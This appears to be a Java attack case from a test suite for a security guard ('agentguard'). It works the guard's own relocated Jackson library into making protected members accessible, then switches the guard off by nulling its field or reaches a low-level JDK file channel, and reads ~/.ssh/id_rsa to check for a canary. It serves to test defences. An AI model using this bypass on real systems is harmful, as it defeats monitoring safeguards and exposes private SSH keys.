package dev.agentguard.apps.attacks;

import java.lang.reflect.Field;
import java.lang.reflect.InvocationTargetException;
import java.lang.reflect.Member;
import java.lang.reflect.Method;
import java.nio.ByteBuffer;
import java.nio.channels.FileChannel;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.nio.file.StandardOpenOption;
import java.util.Set;

/**
 * Uses the guard's own relocated libraries, boot-visible since guard.jar is on the boot class path (issue
 * 16), as a reflection helper: Jackson's public {@code ClassUtil.checkAndFixAccess(Member, boolean)} calls
 * {@code setAccessible(true)} on whatever member it is handed, and the JDK and the guard see Jackson (a class
 * of guard.jar, in the boot loader's unnamed module) as the caller, not the application. Two targets:
 * <ul>
 *   <li>the bridge's private {@code guard} field: the guard lets its own classes open each other, and the
 *       relocated Jackson is "its own" by name, loader and jar; nulling the field switches the guard off;</li>
 *   <li>{@code sun.nio.fs.UnixChannelFactory.newFileChannel}, below the hooked provider methods: the guard
 *       opens {@code sun.nio.fs} (and {@code sun.nio.ch}, {@code java.net}) to the boot loader's unnamed
 *       module, which now holds Jackson too, so the JDK lets Jackson open it for the application.</li>
 * </ul>
 * Each variant then reads {@code ~/.ssh/id_rsa}; it succeeded if that returns the canary.
 */
public final class BootLibraryAttack implements Attack {
    private static final String CLASS_UTIL = "dev.agentguard.internal.jackson.databind.util.ClassUtil";

    public static void main(String[] args) {
        AttackSuite.runOne("BootLibraryAttack", new BootLibraryAttack());
    }

    @Override
    public void run(AttackTarget t, AttackReport report) throws Exception {
        String key = t.sshKey().toString();
        report.grab("bootlib-baseline-plain-read", () -> PathEscapeAttack.readIo(key));
        report.grab("bootlib-jackson-opens-bridge-field", () -> {
            Field f = Class.forName(GuardTamperAttack.BRIDGE).getDeclaredField("guard");
            open(f);
            Object saved = f.get(null);
            f.set(null, null);
            try {
                return PathEscapeAttack.readIo(key);
            } finally {
                f.set(null, saved);
            }
        });
        report.grab("bootlib-jackson-opens-sun-nio-fs", () -> {
            Method m = Class.forName("sun.nio.fs.UnixChannelFactory").getDeclaredMethod("newFileChannel",
                    Class.forName("sun.nio.fs.UnixPath"), Set.class, int.class);
            open(m);
            try (FileChannel channel = (FileChannel) m.invoke(null, Path.of(key), Set.of(StandardOpenOption.READ), 0)) {
                ByteBuffer buffer = ByteBuffer.allocate(4096);
                channel.read(buffer);
                return new String(buffer.array(), 0, buffer.position(), StandardCharsets.ISO_8859_1);
            }
        });
        report.grab("bootlib-baseline-plain-read-after", () -> PathEscapeAttack.readIo(key));
    }

    /** {@code ClassUtil.checkAndFixAccess(member, false)} of the guard's relocated Jackson, found by name. */
    private static void open(Member member) throws Throwable {
        try {
            Class.forName(CLASS_UTIL, false, null).getMethod("checkAndFixAccess", Member.class, boolean.class)
                    .invoke(null, member, false);
        } catch (InvocationTargetException e) {
            throw e.getCause();
        }
    }
}
